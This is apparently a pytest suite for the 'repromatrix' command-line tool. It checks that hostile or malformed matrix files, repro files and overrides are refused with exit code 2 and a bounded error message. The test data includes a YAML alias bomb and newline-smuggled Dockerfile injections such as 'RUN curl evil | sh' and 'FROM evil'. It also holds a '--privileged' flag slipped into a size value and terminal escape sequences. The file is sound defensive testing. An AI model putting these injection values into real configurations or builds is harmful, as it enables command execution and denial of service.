"""Hostile and careless input (issue 12): every case is a clear exit 2 through the
real command line, fast, with a bounded message and no traceback."""

from __future__ import annotations

import shutil
import stat
import subprocess
import sys
from pathlib import Path

import pytest
import yaml
from support.cli import repromatrix

import repromatrix as repromatrix_package
from repromatrix.config import yamlfile

META = 'META = {{"id": "{id}", "title": "{id} bug"}}\n'
PIP = "stacks: [{kind: pip, torch: '2.5', tags: [default]}]\n"


def assert_usage_error(proc: subprocess.CompletedProcess, *needles: str) -> None:
    assert proc.returncode == 2, proc.stderr[-3000:]
    assert proc.stderr.startswith("repromatrix: error: "), proc.stderr[-3000:]
    assert "Traceback" not in proc.stderr and "internal error" not in proc.stderr
    assert len(proc.stderr) < 5000, "the message echoes a bounded value"
    assert "\x1b" not in proc.stderr and "\x07" not in proc.stderr, "escapes are escaped"
    for needle in needles:
        assert needle in proc.stderr, proc.stderr


@pytest.fixture
def repros(tmp_path: Path) -> Path:
    d = tmp_path / "repros"
    d.mkdir()
    (d / "one_bug.py").write_text(META.format(id="one_bug"))
    return d


def plan(tmp_path: Path, text: str | bytes, *extra: str) -> subprocess.CompletedProcess:
    """`repromatrix plan` on a matrix beside `repros/` (the catalog next to it is used)."""
    path = tmp_path / "matrix.yaml"
    path.write_bytes(text if isinstance(text, bytes) else text.encode())
    return repromatrix("plan", "--matrix", str(path), *extra)


# ---------------------------------------------------------------- YAML itself

ALIAS_BOMB = (
    "defaults:\n"
    "  python: &a9 [&a8 [&a7 [&a6 [&a5 [&a4 [&a3 [&a2 [&a1 [lol,lol,lol,lol,lol,lol,lol,lol,lol],"
    + "],".join(",".join([f"*a{n}"] * 9) for n in range(1, 9)) + "]\n" + PIP
)


def test_alias_bomb_under_defaults_python_is_refused_fast(tmp_path, repros):
    assert len(ALIAS_BOMB) < 1500
    proc = plan(tmp_path, ALIAS_BOMB)  # 9**9 items expanded: 3.4 GB and 28 s before the fix
    assert_usage_error(proc, "matrix.yaml: line 2: this value expands to more than")


def test_recursive_alias_is_refused(tmp_path, repros):
    proc = plan(tmp_path, "defaults: {packages: &p [a, *p]}\n" + PIP)
    assert_usage_error(proc, "recursive structure")


def test_a_few_plain_aliases_stay_allowed(tmp_path, repros):
    proc = plan(tmp_path, "repros: [one_bug]\nstacks:\n"
                          "  - {kind: pip, torch: '2.5', packages: &extra [timm], tags: &t [default]}\n"
                          "  - {kind: pip, torch: '2.6', packages: *extra, tags: *t}\n",
                "--format", "json")
    assert proc.returncode == 0, proc.stderr
    assert proc.stdout.count('"timm"') == 2


def test_huge_comment_only_file_is_refused_before_parsing(tmp_path, repros):
    path = tmp_path / "matrix.yaml"
    line = b"# " + b"x" * 1000 + b"\n"
    with path.open("wb") as fh:
        for _ in range(50_000):  # 50 MB
            fh.write(line)
    proc = repromatrix("plan", "--matrix", str(path))
    assert_usage_error(proc, "too large for a YAML config")


def test_comment_only_file_under_the_limit_parses_to_nothing(tmp_path, repros):
    proc = plan(tmp_path, ("# nothing here\n" * 200_000))  # 3 MB of comments
    assert_usage_error(proc, "must be a mapping")


def test_the_c_loader_is_used_where_pyyaml_has_it():
    assert yamlfile.LOADER is getattr(yaml, "CSafeLoader", yaml.SafeLoader)


def test_matrix_that_is_not_utf8_is_bad_input(tmp_path, repros):
    proc = plan(tmp_path, PIP.encode() + b"# caf\xe9 in latin-1\n")
    assert_usage_error(proc, "matrix.yaml: line 2: not UTF-8 (byte 0xe9)")


# ---------------------------------------------------------------- exit 2, not 1

@pytest.mark.parametrize("text, needle", [
    ("repros: [[1]]\n" + PIP, "repros[0]: expected a string, got [1]"),
    ("stacks: [{kind: pip, torch: '2.5', repros: [{a: 1}]}]\n", "stacks[0].repros[0]: expected a string"),
    ("stacks: [{kind: [pip]}]\n", "stacks[0].kind: unknown stack kind ['pip']"),
    ("? [a, b]\n: 1\n" + PIP, "malformed YAML"),
    ("stacks: [{kind: pip, torch: '2.5', id: \"a\\0b\"}]\n", "control character \\x00"),
])
def test_wrong_shapes_are_bad_input(tmp_path, repros, text, needle):
    assert_usage_error(plan(tmp_path, text), needle)


def test_repro_file_that_is_not_utf8_is_bad_input(tmp_path, repros):
    (repros / "latin.py").write_bytes(b'META = {"id": "latin", "title": "caf\xe9"}\n')
    assert_usage_error(plan(tmp_path, PIP), "latin.py: line 1: not UTF-8 (byte 0xe9)")


@pytest.mark.parametrize("source, needle", [
    ('META = {["a"]: 1}\n', "META: META must be a pure literal dict (it has an unhashable key)"),
    ('META = {"id": "odd", "upstream": 5}\n', "META.upstream: expected a list of str, got 5"),
    ('META = {"id": "odd", "expect": ["pass"]}\n', "META.expect: expected a list of dict"),
    ('META = {"id": "odd", "title": ["x"]}\n', "META.title: expected a str"),
    ('META = {"id": "odd"}\nx = "\0"\n', "odd.py: "),
])
def test_malformed_meta_is_bad_input(tmp_path, repros, source, needle):
    (repros / "odd.py").write_bytes(source.encode())
    assert_usage_error(plan(tmp_path, PIP), needle)


@pytest.mark.parametrize("name", ["a,b.py", "x--y.py", "sp ace.py", "new\nline.py"])
def test_repro_file_whose_name_is_not_a_plain_id_is_refused(tmp_path, repros, name):
    (repros / name).write_text(META.format(id=name[:-3]))
    assert_usage_error(plan(tmp_path, PIP), "the file name is the repro id; rename the file")


@pytest.mark.parametrize("edit, needle", [
    (("\"2.5.1\":  {torchvision: [\"0.20.1\"], python: \">=3.9,<3.14\"",
      "\"2.5.1\":  {torchvision: [\"0.20.1\"], python: \"three\""),
     "compat.yaml: torch.2.5.1.python: 'three' is not a version specifier"),
    (("\"2.5.1\":  {torchvision: [\"0.20.1\"], ", "\"2.5.1\":  {"), "torch.2.5.1.torchvision: missing"),
    (("index: cu124, src: V}", "index: cu999, src: V}"), "index: 'cu999' is not under `indexes:`"),
    (("  \"24.05\": {", "  24.05: {"), "compat.yaml: ngc.24.05: the key 24.05 must be a quoted string"),
    (("  cu117: \"11.7\"", "  cu117: 11.7"), "indexes.cu117.cuda: expected a quoted CUDA version"),
])
def test_bad_row_in_the_compat_table_names_file_and_row(tmp_path, repros, edit, needle):
    """A user editing the table of a source checkout: a copy of the package with one row broken."""
    pkg = tmp_path / "src" / "repromatrix"
    shutil.copytree(Path(repromatrix_package.__file__).parent, pkg,
                    ignore=shutil.ignore_patterns("__pycache__"))
    table = pkg / "data" / "compat.yaml"
    text = table.read_text()
    assert edit[0] in text
    table.write_text(text.replace(edit[0], edit[1], 1))
    (tmp_path / "matrix.yaml").write_text(PIP)
    proc = repromatrix("plan", "--matrix", str(tmp_path / "matrix.yaml"),
                       env={"PYTHONPATH": str(pkg.parent)})
    assert_usage_error(proc, needle)
    assert str(table) in proc.stderr


# ---------------------------------------------------------------- loose validation

@pytest.mark.parametrize("text, needle", [
    ("stacks: [{kind: pip, torch: '2.5', id: \"abc\\n\"}]\n", "stacks[0].id: control character \\n"),
    ("stacks: [{kind: pip, torch: '2.5', id: \"abc-\"}]\n", None),
    ("stacks: [{kind: ngc, ngc: 24.10}]\n",
     "stacks[0].ngc: expected a version string, got the number 24.1: quote it"),
    ("stacks: [{kind: pip, torch: 2.5}]\n", "stacks[0].torch: expected a version string, got the number"),
    ("stacks: [{kind: pip, torch: '2.5', torchvision: 0.20}]\n",
     "stacks[0].torchvision: expected a version string, got the number 0.2: quote it"),
    ("stacks: [{kind: pip, torch: '2.5', python: 3.10}]\n", "stacks[0].python: expected a version string"),
    ("defaults: {python: 3.10}\n" + PIP, "defaults.python: expected a version string, got the number"),
    ("defaults: {repro_timeout: -5}\n" + PIP, "defaults.repro_timeout: expected a number of seconds > 0"),
    ("defaults: {repro_timeout: 0}\n" + PIP, "defaults.repro_timeout: expected a number of seconds > 0"),
    ("defaults: {repro_timeout: .nan}\n" + PIP, "defaults.repro_timeout: expected a number of seconds > 0"),
    ("defaults: {stack_timeout: .inf}\n" + PIP, "defaults.stack_timeout: expected a number of seconds > 0"),
    ("defaults: {stack_timeout: 999999999}\n" + PIP, "defaults.stack_timeout: 1e+09 s is more than a week"),
    ("defaults: {shm_size: \"8g --privileged\"}\n" + PIP, "defaults.shm_size: expected a size like 8g"),
    ("defaults: {packages: [\"timm\\nRUN curl evil | sh\"]}\n" + PIP,
     "defaults.packages[0]: control character \\n at position 4"),
    ("stacks: [{kind: pip, torch: '2.5', packages: [\"timm\\rx\"]}]\n", "stacks[0].packages[0]: control"),
    ("defaults: {extra_index_urls: [\"https://x\\nFROM evil\"]}\n" + PIP,
     "defaults.extra_index_urls[0]: control"),
    ("defaults: {base_images: {\"python:3.11-slim\": \"mirror/py\\nFROM evil\"}}\n" + PIP,
     "defaults.base_images.python:3.11-slim: control character \\n"),
    ("defaults: {base_images: {\"python:3.11-slim\\n\": \"mirror/py\"}}\n" + PIP,
     "defaults.base_images: control character \\n"),
    ("defaults: {find_links: [\"wheels\\x1b[2J\"]}\n" + PIP,
     "defaults.find_links[0]: control character \\x1b"),
    ("defaults: {ca_bundle: \"ca\\u202e.pem\"}\n" + PIP, "defaults.ca_bundle: control character \\u202e"),
    ("stacks: [{kind: pip, torch: '2.5', tags: [\"default\\n\"]}]\n", "stacks[0].tags[0]: control"),
    ("stacks: [{kind: local, interpreter: \"/usr/bin/python3\\n-c\"}]\n", "stacks[0].interpreter: control"),
])
def test_loose_values_are_refused(tmp_path, repros, text, needle):
    proc = plan(tmp_path, text)
    if needle is None:  # a plain id that is fine: the stack loads
        assert "selects no cells" in proc.stderr, proc.stderr
        return
    assert_usage_error(proc, "matrix.yaml: " + needle.split(": ")[0], needle)


def test_absurdly_long_values_are_refused_with_a_bounded_message(tmp_path, repros):
    for key in ("id", "torch"):
        proc = plan(tmp_path, f"stacks: [{{kind: pip, torch: '2.5', {key}: '{'x' * 3_000_000}'}}]\n")
        assert_usage_error(proc, f"stacks[0].{key}: too long (3,000,000 characters")


def test_overrides_are_checked_too(tmp_path, repros):
    (tmp_path / "matrix.yaml").write_text(PIP)
    m = str(tmp_path / "matrix.yaml")
    assert_usage_error(repromatrix("run", "--matrix", m, "--base-image", "python:3.11-slim=a\nFROM b"),
                       "--base-image: control character \\n")
    assert_usage_error(repromatrix("run", "--matrix", m,
                                   env={"REPROMATRIX_BASE_IMAGES": "python:3.11-slim=x y"}),
                       "REPROMATRIX_BASE_IMAGES: whitespace at position 1")
    assert_usage_error(repromatrix("run", "--matrix", m, "--find-links", str(tmp_path) + "\x1b[2J"),
                       "--find-links: control character \\x1b")


# ---------------------------------------------------------------- a broken interpreter

@pytest.mark.parametrize("body", [
    "#!/bin/sh\necho 'Segmentation fault (not really)'\nexit 139\n",
    f"#!{sys.executable}\nprint('[' * 200_000)\n",
    "#!/bin/sh\necho '[1, 2]'\n",
    "#!/bin/sh\nkill -SEGV $$\n",
    "#!/bin/sh\nprintf '\\033]0;pwned\\007\\033[2J'\n",
])
def test_users_broken_interpreter_is_a_usage_error(tmp_path, repros, body):
    fake = tmp_path / "python"
    fake.write_text(body)
    fake.chmod(fake.stat().st_mode | stat.S_IXUSR)
    proc = repromatrix("env", "--python", str(fake))
    assert_usage_error(proc, f"--python {fake}: ", "not a working Python")
